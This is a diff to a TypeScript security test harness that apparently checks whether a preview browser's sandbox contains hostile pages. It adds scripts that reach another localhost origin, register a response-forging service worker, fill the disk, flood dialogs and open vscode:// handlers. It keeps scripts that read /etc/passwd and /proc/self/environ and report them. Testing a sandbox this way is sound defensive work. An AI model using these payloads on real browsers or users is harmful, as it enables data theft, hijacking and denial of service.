@@ -8,6 +8,9 @@ import type { BrowserOptions } from "./types.ts";
 const ORIGIN = "http://attack.localhost:4173";
 const page = (script: string) => `<!doctype html><p>x</p><script>${script}</script>`;
 const GOOD = "/good";
+/** Answers whatever its page asks for, in the place of the server. */
+const WORKER = "/worker.js";
+const FORGES = `oninstall = () => skipWaiting(); onactivate = (e) => e.waitUntil(clients.claim()); onfetch = (e) => e.respondWith(new Response("<!doctype html><p>forged", { headers: { "content-type": "text/html" } }))`;
 /** Milliseconds for each page to do its worst. */
 const ATTACK_MS = 6_000;
 
@@ -16,10 +19,14 @@ interface PageAttempt {
   id: string;
   what: string;
   script: string;
-  /** Whether it got what it was after. */
+  /** Whether it got what it was after; `asked` with its host. */
   got?(asked: readonly string[]): boolean;
+  /** The same, once the next page was looked at. */
+  gotLater?(asked: readonly string[]): boolean;
 }
 
+/** Says what there is of the page before it. */
+const REMEMBERS = `(async () => { const all = [localStorage.kept, document.cookie, await caches.has("kept"), (await indexedDB.databases()).length, (await navigator.serviceWorker.getRegistrations()).length]; if (all.some(Boolean)) fetch("/told?kept" + all); })()`;
 const tell = (what: string) => `fetch("/told?" + encodeURIComponent(${what}))`;
 
 const ATTEMPTS: readonly PageAttempt[] = [
@@ -64,6 +71,34 @@ const ATTEMPTS: readonly PageAttempt[] = [
     script: `for (let i = 0; i < 300; i++) { const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["[Desktop Entry]"])); a.download = "x" + i + (i % 2 ? ".desktop" : ".url"); a.click(); }`,
   },
   {
+    id: "A62",
+    what: "another project's preview, by every way that a page has",
+    script: `const to = "://other.localhost:4173/reached";
+      fetch("http" + to, { mode: "no-cors" }).catch(() => 0); navigator.sendBeacon("http" + to, "x"); new WebSocket("ws" + to).onerror = () => 0; new EventSource("http" + to);
+      for (const [name, key] of [["iframe", "src"], ["img", "src"], ["script", "src"], ["link", "href"], ["object", "data"]]) { const e = document.createElement(name); e.rel = "prefetch"; e[key] = "http" + to; document.body.append(e); }
+      const f = document.createElement("form"); f.method = "post"; f.action = "http" + to; document.body.append(f); setTimeout(() => f.submit(), 500);`,
+    got: (asked) => asked.some((url) => url.startsWith("other.")),
+  },
+  {
+    id: "A50",
+    what: "to answer in its server's place when it is looked at again, and to remember",
+    script: `localStorage.kept = 1; document.cookie = "kept=1; max-age=9999"; caches.open("kept"); indexedDB.open("kept"); navigator.serviceWorker.register("${WORKER}")`,
+    gotLater: (asked) =>
+      asked.some((url) => url.includes("kept")) || !asked.some((url) => url.endsWith(GOOD)),
+  },
+  {
+    id: "A50",
+    what: "the disk of this machine, by what a page may store",
+    script: `(async () => { const bytes = new Uint8Array(1 << 25).fill(7); const root = await navigator.storage.getDirectory();
+      for (let i = 0; ; i++) { const w = await (await root.getFileHandle("f" + i, { create: true })).createWritable(); await w.write(bytes); await w.close(); } })().catch(() => 0);
+      (async () => { const c = await caches.open("c"); for (let i = 0; ; i++) await c.put("/" + i, new Response(new Uint8Array(1 << 25))); })().catch(() => 0);`,
+  },
+  {
+    id: "A50",
+    what: "questions to the person without end, and to leave for other programs",
+    script: `onbeforeunload = () => "stay"; setTimeout(() => { location = "vscode://file/etc/passwd"; open("mailto:a@b.c"); }, 100); navigator.clipboard?.readText().catch(() => 0); for (let i = 0; i < 200; i++) { alert(i); confirm(i); prompt(i); print(); }`,
+  },
+  {
     id: "A33",
     what: "files of this machine",
     script: `Promise.allSettled(["file:///etc/hostname", "file:///proc/self/environ"].map((u) => fetch(u).then((r) => r.text()).then((t) => ${tell("'file ' + t")}))); location = "file:///etc/passwd"`,
@@ -101,17 +136,23 @@ export async function attackFromBrowser(options: {
 }): Promise<(AttemptResult & { what: string })[]> {
   const asked: string[] = [];
   let script = "";
-  const answer = (url: string, response: ServerResponse) => {
-    asked.push(url);
-    response.writeHead(200, { "content-type": "text/html" });
-    response.end(url.startsWith("/busy") ? page("for (;;);") : page(url === GOOD ? "" : script));
+  const answer = (url: string, response: ServerResponse, host = "") => {
+    asked.push(host + url);
+    const type = url === WORKER ? "text/javascript" : "text/html";
+    response.writeHead(200, { "content-type": type });
+    if (url === WORKER) response.end(FORGES);
+    else if (url.startsWith("/busy")) response.end(page("for (;;);"));
+    else response.end(page(url === GOOD ? REMEMBERS : script));
   };
   const browser = createBrowser({
     env: options.env,
     cacheDirectory: options.cacheDirectory ?? join(tmpdir(), "treadle-browser-cache"),
     gateway: {
-      handle: (request, response) => answer(request.url ?? "/", response),
-      upgrade: (_request, socket) => void socket.destroy(),
+      handle: (request, response) => answer(request.url ?? "/", response, request.headers.host),
+      upgrade({ url, headers }, socket) {
+        asked.push(`${headers.host}${url}`);
+        socket.destroy();
+      },
       connect: async () => undefined,
     },
   });
@@ -128,12 +169,14 @@ export async function attackFromBrowser(options: {
         (report) => (report.rendered ? "it was looked at" : "nothing was seen of it"),
         (error: Error) => error.message,
       );
-      const got = attempt.got?.(asked) ?? false;
+      const early = attempt.got?.(asked) ?? false;
+      asked.length = 0;
       // Whatever it did to its browser, the next page finds one.
       const next = await look(GOOD).then(
         ({ status }) => status === 200,
         () => false,
       );
+      const got = early || (attempt.gotLater?.(asked) ?? false);
       const outcome = got || !next ? "through" : "held";
       const output = `${said}; the next page ${next ? "was" : "was not"} looked at\n`;
       results.push({ what: attempt.what, outcome, output });
